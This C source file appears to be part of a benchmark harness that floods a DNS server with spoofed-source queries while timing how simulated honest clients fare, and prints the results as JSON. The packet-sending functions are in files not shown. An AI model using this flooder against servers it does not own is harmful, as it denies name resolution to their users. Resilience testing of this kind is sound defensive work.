/*
 * An attack on a name server and those who need it meanwhile, from one process on one core: prints one line of JSON.
 *
 *   flood ADDRESS PORT ZONE [name=value ...]
 *
 * The attacker forges its addresses (IP_TRANSPARENT) and reads no reply. The honest (floodhonest.c) ask for names that
 * there are, ask again after 400 ms, come by TCP when they are told to, and give up after a second. They are in the same
 * loop, so that neither waits for the other's turn on the core.
 */

#define _GNU_SOURCE
#include "flood.h"
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/** Honest queries are looked after this often while the attack goes on, in ns; they come one in 300 µs. */
static const uint64_t LOOK_NS = 30000;
/** Honest queries of the attack's last second are not counted: their time would not be up. */
static const uint64_t TAIL_NS = 1000000000;

uint64_t now_ns(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (uint64_t)time.tv_sec * 1000000000u + (uint64_t)time.tv_nsec;
}

void die(const char *what) {
  fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
  exit(1);
}

uint32_t random32(void) {
  static uint64_t state = 0x9e3779b97f4a7c15u;
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return state >> 32;
}

unsigned write_query(uint8_t *wire, const char *name, uint16_t type) {
  static const uint8_t head[] = {0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 1};
  // The root's name, OPT, 1232 octets, no extended rcode, version 0, DO, no options.
  static const uint8_t edns[] = {0, 0, 41, 4, 208, 0, 0, 128, 0, 0, 0};
  uint8_t *at = wire;
  memcpy(at, head, sizeof head);
  at += sizeof head;
  while (*name) {
    const size_t label = strcspn(name, ".");
    *at++ = label;
    memcpy(at, name, label);
    at += label;
    name += label + (name[label] == '.');
  }
  const uint8_t rest[] = {0, type >> 8, type, 0, 1};
  memcpy(at, rest, sizeof rest);
  memcpy(at + sizeof rest, edns, sizeof edns);
  return at + sizeof rest + sizeof edns - wire;
}

static void read_option(struct plan *plan, char *word) {
  char *value = strchr(word, '=');
  if (!value) die(word);
  *value++ = 0;
  if (!strcmp(word, "question")) plan->question = value;
  else if (!strcmp(word, "type")) plan->type = atoi(value);
  else if (!strcmp(word, "random")) plan->random = atoi(value);
  else if (!strcmp(word, "sources")) plan->sources = atoi(value);
  else if (!strcmp(word, "attack")) plan->attack = atof(value);
  else if (!strcmp(word, "segments")) plan->segments = atoi(value);
  else if (!strcmp(word, "honest")) plan->honest = atof(value);
  else if (!strcmp(word, "warm")) plan->warm = atof(value);
  else if (!strcmp(word, "names")) plan->names = atoi(value);
  else if (!strcmp(word, "known")) plan->known = atoi(value);
  else if (!strcmp(word, "fresh")) plan->fresh = atoi(value);
  else if (!strcmp(word, "strange")) plan->strange = atoi(value);
  else if (!strcmp(word, "before")) plan->before = atof(value);
  else if (!strcmp(word, "seconds")) plan->seconds = atof(value);
  else die(word);
}

static int by_value(const void *a, const void *b) {
  const uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
  return x < y ? -1 : x > y;
}

static double at_share(const struct tally *tally, double share) {
  const uint64_t at = tally->latencies * share;
  return tally->latencies == 0 ? 0 : tally->latency[at < tally->latencies ? at : tally->latencies - 1] / 1e6;
}

static void print_tally(const char *name, struct tally *tally) {
  qsort(tally->latency, tally->latencies, sizeof *tally->latency, by_value);
  printf(",\"%s\":{\"asked\":%lu,\"answered\":%lu,\"first\":%lu,\"truncated\":%lu,\"by_tcp\":%lu,\"wrong\":%lu,", name,
         tally->asked, tally->answered, tally->first, tally->truncated, tally->by_tcp, tally->wrong);
  printf("\"p50_ms\":%.3f,\"p99_ms\":%.3f}", at_share(tally, 0.5), at_share(tally, 0.99));
}

static uint64_t wait_then_attack(const struct plan *plan, double *elapsed) {
  const uint64_t start = now_ns(), from = start + plan->before * 1e9, end = from + plan->seconds * 1e9;
  const struct timespec nap = {.tv_nsec = 20000};
  uint64_t sent = 0, looked = 0, now = start;
  for (; now < end; now = now_ns()) {
    const int attacked = now >= from;
    if (now - looked >= LOOK_NS) {
      looked = now;
      honest(now, attacked ? GROUPS : FRESH, attacked && now < end - TAIL_NS);
    }
    if (attacked && (plan->attack == 0 || sent < (now - from) * plan->attack / 1e9)) sent += attack();
    else if (!attacked) nanosleep(&nap, NULL);
  }
  *elapsed = (now - from) / 1e9;
  return sent;
}

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "flood: ADDRESS PORT ZONE [name=value ...]\n");
    return 2;
  }
  struct plan plan = {.zone = argv[3], .question = argv[3], .type = 16, .sources = 4, .segments = 16, .honest = 3000, .warm = 15000,
                      .names = 64, .known = 100, .fresh = 50, .strange = 50, .before = 3, .seconds = 5};
  plan.server = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  if (inet_pton(AF_INET, argv[1], &plan.server.sin_addr) != 1) die(argv[1]);
  for (int i = 4; i < argc; i++) read_option(&plan, argv[i]);
  struct tally tallies[GROUPS] = {};
  for (int i = 0; i < GROUPS; i++) {
    tallies[i].room = plan.honest * plan.seconds + 1000;
    tallies[i].latency = malloc(tallies[i].room * sizeof *tallies[i].latency);
  }
  const unsigned octets = open_attack(&plan);
  open_honest(&plan, tallies);
  double elapsed;
  const uint64_t sent = wait_then_attack(&plan, &elapsed);
  printf("{\"sent\":%lu,\"query_octets\":%u,\"seconds\":%.3f", sent, octets, elapsed);
  print_tally("known", &tallies[KNOWN]);
  print_tally("fresh", &tallies[FRESH]);
  print_tally("strange", &tallies[STRANGE]);
  printf("}\n");
  return 0;
}
